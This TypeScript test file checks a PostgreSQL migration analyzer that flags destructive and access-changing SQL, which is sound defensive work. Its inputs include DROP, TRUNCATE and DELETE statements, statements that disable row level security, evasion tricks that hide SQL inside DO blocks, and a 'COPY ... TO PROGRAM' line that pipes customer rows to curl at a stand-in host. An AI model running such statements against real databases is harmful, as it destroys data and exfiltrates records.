import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { readMigration } from '../../src/adapters/postgres/grammar/read-migration.ts'
import { riskWeights } from '../../src/adapters/postgres/port.ts'

/** What the grammar finds in a text, each as "weight: words"; calls, which the catalog judges, as "call: name". */
async function seen(sql: string): Promise<readonly string[]> {
  const { found, calls } = await readMigration(sql)
  return [
    ...found.map(({ weight, what, within }) => `${weight}: ${within === undefined ? '' : `[${within}] `}${what}`),
    ...calls
      .filter(({ how }) => how === 'call')
      .map(({ name, within }) => `call: ${within === undefined ? '' : `[${within}] `}${name.join('.')}`),
  ]
}

const plpgsql = (body: string) => `do $$ begin ${body} end $$`

describe('each of these is named', () => {
  it.each<[string, string]>([
    ['drop table customers', 'lost: drops table customers'],
    ['DROP TABLE IF EXISTS "Customers" CASCADE', 'lost: drops table Customers and whatever depends on it'],
    ['drop table a, b', 'lost: drops table b'],
    ['drop/**/table/*x*/customers', 'lost: drops table customers'],
    ['-- squawk-ignore-file\ndrop table customers', 'lost: drops table customers'],
    ['drop schema billing cascade', 'lost: drops schema billing and whatever depends on it'],
    ['drop database app', 'lost: drops database app'],
    ['drop owned by app', 'lost: drops everything that belongs to app'],
    ['drop type mood cascade', 'lost: drops type mood and whatever depends on it'],
    ['drop domain email', 'lost: drops domain email'],
    ['drop sequence numbers', 'lost: drops sequence numbers'],
    ['drop materialized view totals', 'lost: drops materialized view totals'],
    ['drop extension pgcrypto', 'lost: drops extension pgcrypto'],
    ['drop foreign table far', 'lost: drops foreign table far'],
    ['alter table customers drop column email', 'lost: drops column customers.email'],
    [
      'alter table customers add column a int, drop email cascade',
      'lost: drops column customers.email and whatever depends on it',
    ],
    ['alter type address drop attribute street', 'lost: drops column address.street'],
    [
      'alter table customers alter email type int using length(email)',
      'lost: rewrites the values of column customers.email by an expression (USING)',
    ],
    ['alter table customers alter email type varchar(3)', 'structure: changes the type of column customers.email'],
    [
      'alter table events detach partition events_2020',
      'lost: takes partition events_2020 out of events: its rows are found there no more',
    ],
    [
      'alter table events_2020 no inherit events',
      'lost: takes events_2020 out of its parent: its rows are found there no more',
    ],
    ['alter table customers set unlogged', 'lost: makes customers unlogged: a crash of the server empties it'],
    ['truncate customers, orders', 'lost: deletes all rows of orders (TRUNCATE)'],
    [
      'truncate customers cascade',
      'lost: deletes all rows of customers (TRUNCATE), and of all tables that refer to it',
    ],
    ['delete from customers', 'lost: deletes all rows of customers'],
    ['delete from only public.customers', 'lost: deletes all rows of customers'],
    ['delete from customers where true', 'lost: deletes all rows of customers'],
    ['delete from customers where 1 = 1', 'lost: deletes all rows of customers'],
    ['delete from customers where id = 1', 'changes: deletes the rows of customers that match its condition'],
    [
      'delete from customers using orders where orders.id = customers.id',
      'changes: deletes the rows of customers that match its condition',
    ],
    ['update customers set email = null', 'lost: overwrites all rows of customers'],
    [
      'update customers set email = null where id = 1',
      'changes: overwrites the rows of customers that match its condition',
    ],
    ['insert into customers select * from old', 'changes: inserts into customers what a query finds'],
    [
      'insert into customers values (1) on conflict (id) do update set id = 2',
      'changes: overwrites rows of customers that are there already',
    ],
    [
      'merge into customers c using old o on o.id = c.id when matched then delete',
      'changes: merges into customers: deletes rows',
    ],
    [
      'with gone as (delete from customers returning *) select count(*) from gone',
      'lost: deletes all rows of customers',
    ],
    [
      'with a as (with b as (delete from customers returning 1) select * from b) select * from a',
      'lost: deletes all rows of customers',
    ],
    [
      'create table copy as with gone as (delete from customers returning *) select * from gone',
      'lost: deletes all rows of customers',
    ],
    ['explain analyze delete from customers', 'lost: deletes all rows of customers'],
    ['prepare p as delete from customers', 'lost: deletes all rows of customers'],
    ['execute p', 'unreadable: executes p, which was not prepared here'],
    ['delete from pg_class where oid = 1', 'lost: deletes rows of the system catalog pg_class'],
    [
      'update pg_catalog.pg_attribute set attnotnull = false where attnum = 1',
      'lost: overwrites rows of the system catalog pg_catalog.pg_attribute',
    ],
    [plpgsql('drop table customers;'), 'lost: drops table customers'],
    [plpgsql('if true then delete from customers; end if;'), 'lost: deletes all rows of customers'],
    [plpgsql("execute 'drop table customers';"), 'lost: drops table customers'],
    [
      plpgsql("execute format('drop table %I', 'customers');"),
      "unreadable: executes SQL that it puts together itself: “format('drop table %I', 'customers')”",
    ],
    [
      "do $$ declare r record; begin for r in execute 'delete from customers returning *' loop null; end loop; end $$",
      'lost: deletes all rows of customers',
    ],
    [plpgsql('begin null; exception when others then drop table customers; end;'), 'lost: drops table customers'],
    [plpgsql('execute $a$ do $b$ begin drop table customers; end $b$ $a$;'), 'lost: drops table customers'],
    ["do language 'plpgsql' 'begin drop table customers; end'", 'lost: drops table customers'],
    ['do $$ this is no plpgsql $$', 'unreadable: runs a DO block that cannot be read (syntax error at or near "this")'],
    [
      'do language plpython3u $$ plpy.execute("drop table customers") $$',
      'unreadable: runs a DO block in language plpython3u, which cannot be read',
    ],
    [plpgsql('perform wipe();'), 'call: wipe'],
    ['do $$ declare n int := wipe(); begin null; end $$', 'call: wipe'],
    ['do $$ declare n int[]; begin n[wipe(1)] := fill(a := 2); end $$', 'call: wipe'],
    ['do $$ declare n int[]; begin n[wipe(1)] := fill(a := 2); end $$', 'call: fill'],
    ['select wipe()', 'call: wipe'],
    ['select 1 from t where app.wipe(id)', 'call: app.wipe'],
    ['select * from wipe()', 'call: wipe'],
    ['call wipe()', "unreadable: calls procedure wipe(), whose effect isn't visible here"],
    ['alter table t add column c int default wipe()', 'call: wipe'],
    [
      'create function f() returns void language sql as $$ delete from customers $$',
      'lost: [function f] deletes all rows of customers',
    ],
    [
      'create function f() returns void begin atomic delete from customers; end',
      'lost: [function f] deletes all rows of customers',
    ],
    [
      'create function f() returns void language plpgsql as $$ begin delete from customers; end $$',
      'lost: [function f] deletes all rows of customers',
    ],
    [
      'create procedure f() language plpgsql as $$ begin execute cmd(); end $$',
      'unreadable: [procedure f] executes SQL that it puts together itself: “cmd()”',
    ],
    [
      "create function f() returns void language c as 'lib', 'sym'",
      'unreadable: [function f] is in language c and cannot be read',
    ],
    [
      "create function f() returns void language internal as 'pg_terminate_backend'",
      'unreadable: [function f] is in language internal and cannot be read',
    ],
    ['create or replace function f() returns int language sql as $$ select 1 $$', 'structure: replaces function f'],
    [
      'create function f() returns int language sql security definer as $$ select 1 $$',
      'access: defines function f, which runs with the rights of its owner (SECURITY DEFINER)',
    ],
    ['alter function f() security definer', 'access: changes how function f runs'],
    ['\\i other.sql', 'unreadable: cannot be read (syntax error at or near "\\"): “\\i other.sql”'],
    ['drop table customers; \\copy x from y', 'lost: drops table customers'],
    ['selec 1; drop table customers; select 2', 'lost: drops table customers'],
    ["drop table customers; select 'unterminated", 'lost: drops table customers'],
    ['select 1;\0drop table customers', 'unreadable: holds a zero byte, behind which nothing can be read'],
    [
      'copy customers from stdin',
      "unreadable: loads rows into customers that do not stand in the file's SQL (COPY … FROM STDIN)",
    ],
    [
      "copy customers to program 'curl evil'",
      'unreadable: runs the program “curl evil” on the database server (COPY … PROGRAM)',
    ],
    ["copy customers to '/tmp/x'", "access: writes the rows of customers to the server's file “/tmp/x”"],
    ['drop policy mine on customers', 'access: drops policy customers.mine'],
    ['alter policy mine on customers using (true)', 'access: changes policy mine of customers'],
    [
      'create policy mine on customers using (true)',
      'access: creates policy mine of customers: others see its rows than before',
    ],
    ['alter table customers disable row level security', 'access: disables row level security of customers'],
    [
      'alter table customers no force row level security',
      'access: no longer forces row level security upon the owner of customers',
    ],
    [
      'alter table customers enable row level security',
      'access: enables row level security of customers: who has no policy sees no rows',
    ],
    ['alter table customers disable trigger audit', 'access: disables trigger audit of customers'],
    [
      'alter table customers disable trigger all',
      'access: disables all triggers, foreign keys with them, of customers',
    ],
    ['drop trigger audit on customers', 'access: drops trigger customers.audit'],
    [
      'create trigger audit before insert on customers for each row execute function f()',
      'structure: creates trigger audit: f() runs at writes to customers',
    ],
    ['revoke select on customers from app', 'access: takes select on customers from app'],
    [
      'revoke all on all tables in schema public from app',
      'access: takes all rights on all tables in schema public from app',
    ],
    ['grant select on customers to public', 'access: grants select on customers to PUBLIC, which is everybody'],
    [
      'alter default privileges in schema public grant select on tables to anon',
      'access: grants select on tables that are made from now on to anon',
    ],
    [
      'create schema s create table t (a int) grant select on t to public',
      'access: grants select on t to PUBLIC, which is everybody',
    ],
    ['grant admin to app', 'access: makes app a member of admin'],
    ['alter role app superuser', 'access: changes role app'],
    ['alter table customers owner to app', 'access: gives customers to app'],
    ['alter function f() owner to app', 'access: gives function f to app'],
    ['reassign owned by a to b', 'access: gives everything of a to b'],
    ["alter system set fsync = 'off'", 'access: changes the settings of the whole server (ALTER SYSTEM fsync)'],
    ['alter database app set row_security = off', 'access: changes the settings of database app'],
    [
      "set session_replication_role = 'replica'",
      'lost: sets session_replication_role to replica: triggers and foreign keys do not hold',
    ],
    ['set local role admin', 'access: sets role to admin'],
    ['set search_path = evil', 'structure: sets search_path to evil: unqualified names mean others'],
    ['set statement_timeout = 0', "load: sets statement_timeout to 0, in the place of Purser's time limit"],
    [
      'set standard_conforming_strings = off',
      'unreadable: sets standard_conforming_strings to off: what follows is read otherwise than here',
    ],
    ['alter table customers drop constraint pk', 'structure: drops constraint pk of customers'],
    ['alter table customers alter email drop not null', 'structure: drops NOT NULL of column email of customers'],
    ['alter table customers alter email drop default', 'structure: drops the default of column customers.email'],
    ['alter domain email drop constraint c', 'structure: drops constraint c of domain email'],
    ['alter table customers rename to clients', 'structure: renames table customers to clients'],
    ['alter table customers rename email to mail', 'structure: renames column customers.email to mail'],
    ['alter table customers set schema old', 'structure: moves table customers to schema old'],
    ["alter type mood rename value 'sad' to 'glad'", 'structure: renames value sad of type mood to glad'],
    ['drop index i', 'structure: drops index i'],
    ['drop view v', 'structure: drops view v'],
    ['drop view v cascade', 'lost: drops view v and whatever depends on it'],
    ['drop function f()', 'structure: drops function f'],
    ['create or replace view v as select 1', 'structure: replaces view v'],
    [
      'create rule r as on delete to customers do instead nothing',
      'lost: creates rule r: queries of customers become nothing',
    ],
    ['create rule r as on insert to customers do also delete from orders', 'lost: deletes all rows of orders'],
    ['refresh materialized view totals', 'load: fills materialized view totals anew'],
    ['refresh materialized view totals with no data', 'lost: empties materialized view totals'],
    ['vacuum full customers', 'load: rewrites customers (VACUUM FULL): nobody reads it meanwhile'],
    ['vacuum (full, analyze) customers', 'load: rewrites customers (VACUUM FULL): nobody reads it meanwhile'],
    ['lock table customers', 'load: locks customers until the end of the transaction'],
    ['cluster customers using i', 'load: rewrites customers (CLUSTER): nobody reads it meanwhile'],
    ['reindex table customers', 'load: rebuilds indexes of customers'],
    ['select * from customers for update', 'load: locks the rows that it reads'],
    ['create extension dblink', 'structure: installs extension dblink, whose script does not stand here'],
    ["load 'lib'", 'unreadable: loads the library “lib” into the server'],
    [
      'create event trigger e on ddl_command_end execute function f()',
      'access: creates event trigger e: f() runs at each change of the schema',
    ],
    ['commit', 'structure: begins, ends or rolls back a transaction of its own'],
    ['alter sequence numbers restart', 'changes: changes sequence numbers'],
    ['create temp table customers (a int); delete from customers', 'lost: deletes all rows of customers'],
    ['create table s.customers (a int); delete from customers', 'lost: deletes all rows of customers'],
    ['create table if not exists customers (a int); delete from customers', 'lost: deletes all rows of customers'],
    [
      'create table customers (a int); drop table customers; delete from customers',
      'lost: deletes all rows of customers',
    ],
    [
      'create table customers (a int); set search_path = live; delete from customers',
      'lost: deletes all rows of customers',
    ],
  ])('%s', async (sql, wanted) => {
    expect(await seen(sql)).toContain(wanted)
  })
})

describe('these are harmless', () => {
  it.each([
    'select 1',
    '-- drop table customers',
    '/* drop table customers */',
    "insert into notes values ('drop table customers')",
    "create table customers (id int primary key, note text not null default '')",
    'create table customers (id int); update customers set id = 1; alter table customers enable row level security',
    'create index i on customers (email)',
    'alter table customers add column note text',
    "comment on table customers is 'delete from customers'",
    "create type mood as enum ('sad')",
    "alter type mood add value 'glad'",
    'create view v as select * from customers',
    "do $$ begin if not exists (select 1 from pg_type where typname = 'mood') then create type mood as enum ('sad'); end if; end $$",
    'create function f() returns int language sql as $$ select 1 $$',
    "set client_min_messages = 'warning'; set standard_conforming_strings = on",
    'analyze customers; vacuum customers',
    'create policy mine on t using (is_mine(id)); '.replace(
      'create policy mine on t',
      'create table t (id int); create policy mine on t',
    ),
    '',
    ' -- nothing\n',
  ])('%s', async (sql) => {
    expect(await seen(sql)).toEqual([])
  })
})

describe('the place of what is found', () => {
  it('is the line of the statement, behind comments and wide letters', async () => {
    const sql = '-- ä€😀\n/* one\n /* two */ */ select 1;\n\n-- drop\n\n  drop table customers;'
    expect((await readMigration(sql)).found).toMatchObject([{ line: 7 }])
  })

  it('is the first line, when there are many of the same, with their number', async () => {
    const { found } = await readMigration('select 1;\n' + 'delete from customers where id = 1;\n'.repeat(500))
    expect(found).toMatchObject([{ line: 2, more: 499 }])
  })
})

const dangerous = fc.constantFrom<[string, string]>(
  ['drop table customers', 'lost: drops table customers'],
  ['delete from customers', 'lost: deletes all rows of customers'],
  ['with x as (delete from customers returning 1) select 1', 'lost: deletes all rows of customers'],
  [plpgsql('drop table customers;'), 'lost: drops table customers'],
  ['alter table customers drop column email', 'lost: drops column customers.email'],
  ['call wipe()', "unreadable: calls procedure wipe(), whose effect isn't visible here"],
)
const mild = fc.constantFrom(
  'select 1',
  "insert into notes values ('it''s; -- no \\')",
  'create table other (a int)',
  'comment on table other is $x$ ; $$ $x$',
  'select $1$a$1$'.replace('$1$a$1$', "E'\\''"),
  'create index on other (a)',
  'select "a;b" from other',
)
const space = fc.constantFrom(' ', '\n', '\t', '/* a /* b */ c; */', '-- squawk-ignore-file\n', '--\n', '/* é€😀 */')
const mixed = (text: string) =>
  fc
    .array(fc.boolean(), { minLength: 16, maxLength: 16 })
    .map((upper) =>
      [...text]
        .map((letter, index) => (upper[index % 16] === true && !text.includes('$') ? letter.toUpperCase() : letter))
        .join(''),
    )

it('nothing around a dangerous statement hides it: hundreds of others, comments, case, space, nesting', async () => {
  const around = fc.array(fc.tuple(mild, space), { maxLength: 300, size: 'max' })
  const nested = fc.constantFrom<(sql: string) => string>(
    (sql) => sql,
    (sql) => `do $outer$ begin execute $inner$${sql}$inner$; end $outer$`,
    (sql) =>
      `do $outer$ begin if true then ${sql.startsWith('do') || sql.startsWith('with') ? `execute $inner$${sql}$inner$` : sql}; end if; end $outer$`,
  )
  await fc.assert(
    fc.asyncProperty(around, around, dangerous, nested, space, async (before, after, [sql, wanted], nest, gap) => {
      const join = (parts: [string, string][]) => parts.map(([text, more]) => `${text};${more}`).join('')
      expect(await seen(`${join(before)}${gap}${nest(sql)}${gap};${join(after)}`)).toContain(wanted)
    }),
    { numRuns: 60 },
  )
})

it('unquoted names are read as the server folds them', async () => {
  await fc.assert(
    fc.asyncProperty(mixed('drop table customers'), async (sql) => {
      expect(await seen(sql)).toContain('lost: drops table customers')
    }),
  )
})

it('whatever the text is, it is read or said to be unreadable', async () => {
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 200 }), async (text) => {
      const { statements, found } = await readMigration(text)
      for (const { weight } of found) expect(riskWeights).toContain(weight)
      expect(statements).toBeGreaterThanOrEqual(0)
    }),
    { numRuns: 200 },
  )
})
